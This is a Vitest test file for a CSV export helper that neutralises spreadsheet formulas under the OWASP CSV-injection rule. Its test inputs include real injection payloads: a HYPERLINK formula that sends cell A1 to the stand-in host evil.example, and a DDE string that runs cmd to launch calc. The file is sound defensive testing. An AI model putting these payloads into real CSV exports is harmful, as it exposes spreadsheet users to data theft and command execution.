import { describe, expect, it } from 'vitest';
import { csvCell, neutraliseFormula } from '../../src/catalog/csv-cell.js';

describe('neutraliseFormula (OWASP CSV injection rule)', () => {
  for (const text of [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '+1+cmd|" /C calc"!A0',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
  ]) {
    it(`puts an apostrophe before ${JSON.stringify(text.slice(0, 12))}`, () => {
      expect(neutraliseFormula(text)).toBe(`'${text}`);
    });
  }

  it('leaves other text alone, formula characters inside it included', () => {
    for (const text of ['a red mug', 'sku-123', 'x=1', "'quoted", ' =1', '', 'ünïcode = fine']) {
      expect(neutraliseFormula(text)).toBe(text);
    }
  });
});

describe('csvCell', () => {
  it('neutralises first, then quotes: the apostrophe ends up inside the quotes', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1,"click")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
    );
    expect(csvCell('\r\n=1')).toBe(`"'\r\n=1"`);
  });

  it('quotes cells with commas, quotes and line breaks as before', () => {
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('plain')).toBe('plain');
  });

  it('writes numbers as they are, so that a spreadsheet still adds them up', () => {
    expect(csvCell(0.02)).toBe('0.02');
    expect(csvCell(-1.5)).toBe('-1.5');
    expect(csvCell(3)).toBe('3');
  });
});
